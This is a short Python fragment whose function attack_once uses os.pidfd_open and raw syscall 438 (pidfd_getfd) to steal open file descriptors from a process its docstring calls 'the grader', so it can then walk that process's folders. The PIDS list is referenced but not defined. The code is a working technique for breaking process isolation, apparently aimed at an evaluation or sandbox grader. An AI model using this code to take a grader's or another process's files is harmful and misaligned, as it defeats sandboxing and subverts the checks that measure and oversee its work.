"""Takes open files from the grader (pidfd_getfd), and looks for folders it can walk."""

import ctypes
import os

def attack_once():
    libc, won = ctypes.CDLL(None, use_errno=True), []
    for pid in PIDS:
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            continue
        won += [(pid, fd) for fd in range(16) if libc.syscall(438, pidfd, fd, 0) >= 0]
    return won
